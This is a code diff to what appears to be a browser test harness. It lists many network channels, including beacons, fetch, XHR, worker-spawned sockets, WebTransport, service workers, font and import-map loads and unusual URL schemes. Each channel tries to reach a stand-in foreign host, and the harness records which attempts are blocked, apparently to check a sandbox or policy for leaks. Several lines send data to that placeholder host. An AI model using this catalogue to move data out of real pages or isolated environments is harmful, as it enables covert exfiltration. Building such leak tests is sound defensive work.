@@ -9,6 +9,9 @@ export const FOREIGN = 'foreign.example';
 /** The host that a way uses. */
 export const leakHost = (way: string): string => `${way}.${FOREIGN}`;
 
+/** A listed host whose certificate says: ask there for who has signed me, and there whether I am still good. */
+export const POINTING = 'pointing.listed.example';
+
 /** Scripts of the page; `host` is the way's own, `wait(target, ...events)` resolves with the first of them. */
 const SCRIPTS = {
   'dns-prefetch': `add('link', { rel: 'dns-prefetch', href: '//' + host })`,
@@ -42,6 +45,8 @@ const SCRIPTS = {
   beacon: `navigator.sendBeacon('https://' + host + '/', 'zq')`,
   fetch: `return fetch('https://' + host + '/', { mode: 'no-cors' }).catch(() => 0)`,
   'fetch-port': `return fetch('https://LISTED:8443/', { mode: 'no-cors' }).catch(() => 0)`,
+  'untrusted-certificate': `return fetch('https://${POINTING}/', { mode: 'no-cors' }).catch(() => 0)`,
+  'early-hints': `add('iframe', { src: '/hints' })`,
   'fetch-keepalive': `return fetch('https://' + host + '/', { mode: 'no-cors', keepalive: true }).catch(() => 0)`,
   'fetch-address': `return Promise.all(['https://203.0.113.9/', 'http://[2001:db8::9]/', 'http://127.0.0.1:8080/'].map((url) => fetch(url, { mode: 'no-cors' }).catch(() => 0)))`,
   xhr: `const x = new XMLHttpRequest(); x.open('POST', 'https://' + host + '/'); x.send('zq'); return wait(x, 'loadend')`,
@@ -53,9 +58,9 @@ const SCRIPTS = {
   font: `return new FontFace('f', 'url(https://' + host + '/f.woff2)').load().catch(() => 0)`,
   'import-map': `add('script', { type: 'importmap', textContent: JSON.stringify({ imports: { zq: 'https://' + host + '/m.js' } }) }); return import('zq').catch(() => 0)`,
   script: `return wait(add('script', { src: 'https://' + host + '/s.js' }), 'load', 'error')`,
-  'worker-import-scripts': `const w = new Worker(URL.createObjectURL(new Blob(["try { importScripts('https://" + host + "/w.js') } catch {} postMessage(0)"]))); return wait(w, 'message', 'error')`,
-  'shared-worker-socket': `const w = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = ({ ports: [p] }) => { const s = new WebSocket('wss://" + host + "/'); s.onopen = s.onerror = () => p.postMessage(0); }"]))); w.port.start(); return wait(w.port, 'message')`,
-  'worker-transport': `const w = new Worker(URL.createObjectURL(new Blob(["const end = () => postMessage(0); try { new WebTransport('https://" + host + ":4433/').ready.then(end, end) } catch { end() }"]))); return wait(w, 'message', 'error')`,
+  'worker-import-scripts': `const w = new Worker(URL.createObjectURL(new Blob(["try { importScripts('https://" + host + "/w.js') } catch {} postMessage(0)"], { type: 'text/javascript' }))); return wait(w, 'message', 'error')`,
+  'shared-worker-socket': `const w = new SharedWorker(URL.createObjectURL(new Blob(["onconnect = ({ ports: [p] }) => { const s = new WebSocket('wss://" + host + "/'); s.onopen = s.onerror = () => p.postMessage(0); }"], { type: 'text/javascript' }))); w.port.start(); return wait(w.port, 'message')`,
+  'worker-transport': `const w = new Worker(URL.createObjectURL(new Blob(["const end = () => postMessage(0); try { new WebTransport('https://" + host + ":4433/').ready.then(end, end) } catch { end() }"], { type: 'text/javascript' }))); return wait(w, 'message', 'error')`,
   'service-worker-fetch': `return worker('fetch', host)`,
   'service-worker-socket': `return worker('socket', host)`,
   'service-worker-socket-loopback': `return worker('socket', '127.0.0.1:8443')`,
@@ -78,7 +83,8 @@ const SCRIPTS = {
   'frame-scheme': `for (const scheme of ['mailto:zq@', 'tel:', 'ftp://', 'smb://', 'ws://', 'intent://', 'search-ms:query=']) add('iframe', { src: scheme + host })`,
   'csp-report': `add('iframe', { src: '/csp' })`,
   payment: `try { return new PaymentRequest([{ supportedMethods: 'https://' + host + '/pay' }], { total: { label: 'a', amount: { currency: 'RUB', value: '1' } } }).canMakePayment().catch(() => 0) } catch {}`,
-  'login-status': `try { return navigator.credentials.get({ identity: { providers: [{ configURL: 'https://' + host + '/f.json', clientId: '1' }] } }).catch(() => 0) } catch {}`,
+  // Chromium answers neither yes nor no where it has no such thing.
+  'login-status': `try { navigator.credentials.get({ identity: { providers: [{ configURL: 'https://' + host + '/f.json', clientId: '1' }] } }).catch(() => 0) } catch {}`,
   'background-fetch': `return navigator.serviceWorker.ready.then((r) => r.backgroundFetch.fetch('zq', 'https://' + host + '/b')).catch(() => 0)`,
   'shared-storage': `try { return sharedStorage.worklet.addModule('https://' + host + '/s.js').catch(() => 0) } catch {}`,
   attribution: `add('img', { attributionSrc: 'https://' + host + '/a' }); try { return fetch('/', { attributionReporting: { eventSourceEligible: true, triggerEligible: false } }).catch(() => 0) } catch {}`,
@@ -173,6 +179,9 @@ async function worker(...message) {
 const ways = [${ways.join(',\n')}];
 const failed = (window.failed = []);
 const pending = (window.pending = new Set());
-Promise.all(ways.map(async ([host, way]) => { pending.add(host); try { await way(host); } catch (cause) { failed.push(host + ': ' + cause); } pending.delete(host); })).then(() => { document.title = 'tried'; });
+// Parts of other sites come last: while such a part is refused, no new worker begins.
+const isLate = ([host]) => /^(object|embed|fenced|portal)[.]/.test(host);
+const tryAll = (some) => Promise.all(some.map(async ([host, way]) => { pending.add(host); try { await way(host); } catch (cause) { failed.push(host + ': ' + cause); } pending.delete(host); }));
+tryAll(ways.filter((one) => !isLate(one))).then(() => tryAll(ways.filter(isLate))).then(() => { document.title = 'tried'; });
 </script>`;
 }
